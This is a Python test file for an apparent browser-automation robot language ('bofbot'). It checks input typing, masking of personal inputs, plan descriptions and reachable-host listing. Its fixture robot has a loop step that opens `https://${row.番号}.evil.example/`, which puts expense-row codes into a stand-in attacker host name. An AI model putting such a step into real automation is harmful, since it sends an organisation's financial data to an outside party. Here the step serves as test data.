"""Plans: typed inputs, what they say would happen, and where the browser may go."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from bofbot.actions import VerbTable
from bofbot.errors import UsageError
from bofbot.language.loader import load_robot
from bofbot.plan import Extent, describe, hosts_of, make_plan

NOW = datetime(2026, 11, 22, 9, 0, tzinfo=UTC)
ROBOT = """bofbot: 1
name: 試験
owner: 経理部
purpose: 試す
allow: [cdn.example.com]
secrets: [経費, 銀行]
inputs:
  month: {type: month, default: "${month(today())}"}
  limit: {type: yen, default: "1,000円"}
  who: {type: text, personal: true, required: false}
  site: {type: text, default: "https://keihi.example.co.jp"}
defaults: {at: "${inputs.site}"}
steps:
  - use: login.yaml
    with: {site: "${inputs.site}"}
  - read_table: data/経費_${inputs.month}.csv
    columns: {番号: code}
    save_as: rows
  - for_each: ${rows}
    as: row
    key: ${row.番号}
    steps:
      - open: https://${row.番号}.evil.example/
      - submit: 登録
        expect: 登録しました
        on_unknown: ask
    if: ${inputs.limit > 0}
on_failure:
  - notify: 経理
    message: 失敗
"""
PART = """bofbot: 1
name: ログイン
owner: 経理部
purpose: 試す
secrets: [銀行]
inputs: {site: {type: text}}
steps:
  - login: 銀行
    at: ${inputs.site}/login
"""


@pytest.fixture
def robot(tmp_path: Path) -> Any:
    (tmp_path / "login.yaml").write_text(PART, encoding="utf-8")
    (tmp_path / "robot.yaml").write_text(ROBOT, encoding="utf-8")
    return load_robot(tmp_path / "robot.yaml", VerbTable())


def plan_of(robot: Any, extent: Extent | None = None, **given: str) -> Any:
    return make_plan(robot, given, lambda: NOW, extent)


def test_inputs_are_typed_and_defaults_computed(robot: Any) -> None:
    inputs = plan_of(robot, limit="１，２３４").inputs
    assert inputs["month"] == date(2026, 11, 1)
    assert inputs["limit"] == Decimal(1234)
    assert inputs["who"] is None


@pytest.mark.parametrize(
    ("given", "says"),
    [({"limti": "1"}, "limit"), ({"limit": "many"}, "limit"), ({"month": "2026-13"}, "month")],
)
def test_wrong_inputs_are_named(robot: Any, given: dict[str, str], says: str) -> None:
    with pytest.raises(UsageError) as wrong:
        plan_of(robot, **given)
    assert says in wrong.value.message.en + (wrong.value.fix.en if wrong.value.fix else "")
    assert wrong.value.message.ja != wrong.value.message.en


def test_personal_inputs_are_not_shown(robot: Any) -> None:
    assert plan_of(robot, who="山田").shown_inputs()["who"] == "●●●"


def test_the_plan_speaks_of_what_it_would_do(robot: Any) -> None:
    told = describe(plan_of(robot))
    assert told.secrets == ("経費", "銀行")
    assert ("reads", "data/経費_2026-11.csv") in told.touches
    assert ("opens", "https://keihi.example.co.jp/login") in told.touches
    assert ("submits", "登録") in told.touches
    assert ("tells", "経理") in told.touches
    depths = {line.path: line.depth for line in told.lines if line.path}
    assert (depths["1"], depths["1.1"], depths["3.2"]) == (0, 1, 1)
    loop = next(line for line in told.lines if line.path == "3")
    assert "inputs.limit" in loop.sentence.en


def test_only_what_the_robot_says_is_reachable(robot: Any) -> None:
    hosts = hosts_of(plan_of(robot))
    assert set(hosts) == {
        "cdn.example.com",
        "https://keihi.example.co.jp",
        "https://keihi.example.co.jp/login",
    }
    assert "https://other.example" in hosts_of(plan_of(robot, site="https://other.example"))


def test_an_unknown_until_offers_the_names(robot: Any) -> None:
    with pytest.raises(UsageError):
        plan_of(robot, Extent(until="ない"))
